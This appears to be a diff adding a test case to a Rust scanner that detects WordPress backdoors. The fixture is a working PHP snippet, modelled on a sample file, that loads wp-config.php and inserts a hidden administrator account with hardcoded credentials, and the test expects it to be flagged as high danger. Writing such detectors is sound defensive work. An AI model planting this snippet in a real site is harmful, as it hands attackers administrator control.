@@ -312,6 +312,15 @@ fn administrators_added_by_raw_sql_from_a_form_are_a_backdoor() {
         .replace("require_once('wp-config.php');", "file_put_contents('wp-config.php', $config);")
         .replace("DB_PASSWORD", "$_POST['dbpass']");
     assert!(found(&installer).is_empty());
+    // fresh58's wp-store.php: the user, the password and the mail written in the file, the
+    // settings' path kept in a variable, the role inside a double-quoted literal.
+    let written = "<?php $cfg = $_SERVER['DOCUMENT_ROOT'] . '/wp-config.php'; $user = 'matigan'; $pw = 'x1';\n\
+                   if (file_exists($cfg)) { require_once($cfg); $c = mysqli_connect(DB_HOST, DB_USER, DB_PASSWORD, DB_NAME);\n\
+                   $q = \"INSERT INTO {$table_prefix}users (user_login, user_pass) VALUES ('$user', MD5('$pw'))\";\n\
+                   mysqli_query($c, $q); $id = mysqli_insert_id($c);\n\
+                   mysqli_query($c, \"INSERT INTO {$table_prefix}usermeta (user_id, meta_key, meta_value) VALUES ($id, \
+                   '{$table_prefix}capabilities', 'a:1:{s:13:\\\"administrator\\\";b:1;}')\"); }";
+    assert_eq!(found(written), [(Why::AdminBackdoor, Danger::High)]);
 }
 
 #[test]
